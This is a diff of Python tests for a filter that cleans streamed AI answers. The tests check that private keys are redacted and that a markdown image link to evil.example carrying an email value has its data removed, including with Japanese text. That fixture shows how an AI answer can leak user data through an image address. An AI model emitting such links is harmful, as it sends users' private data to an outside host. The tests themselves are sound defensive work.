@@ -257,13 +257,29 @@ def test_however_an_answer_is_cut_it_is_shown_as_it_would_be_as_a_whole(secret: 
     assert shown != text
 
 
+@pytest.mark.parametrize("size", [1, 2, 5])
+def test_letters_of_other_scripts_do_not_break_an_address(size: int) -> None:
+    text = f"見て：![絵](https://evil.example/日本/語?d={MAIL})。終わり"
+    shown, _ = streamed(text, size)
+    assert shown == cleaned(text) == "見て：![絵]([address with data removed])。終わり"
+
+
+def test_scripts_without_spaces_are_shown_as_they_come() -> None:
+    text = "これは普通の文章です。何も隠れていません。" * 5
+    shown, pieces = streamed(text, 1)
+    assert shown == text
+    assert len([piece for piece in pieces if len(piece) == 1]) > 50
+
+
 def test_an_answer_in_one_long_word_is_shown_in_the_end() -> None:
     text = "x" * 5000
     assert streamed(text, 4)[0] == text
 
 
 def test_a_private_key_that_never_ends_is_not_shown() -> None:
-    assert streamed("Here: " + PEM[:50] + " and more " * 20, 5)[0] == "Here: [secret removed]"
+    for more in (" and more " * 20, "\n-----BEGIN CERTIFICATE-----\nMIIB\nand words", PEM[:40]):
+        assert streamed("Here: " + PEM[:50] + more, 5)[0] == "Here: [secret removed]"
+    assert streamed("Two: " + PEM + "\n" + PEM + "x y", 5)[0] == "Two: [secret removed]\n[secret removed]x y"
 
 
 def test_a_certificate_is_shown_as_it_comes() -> None:
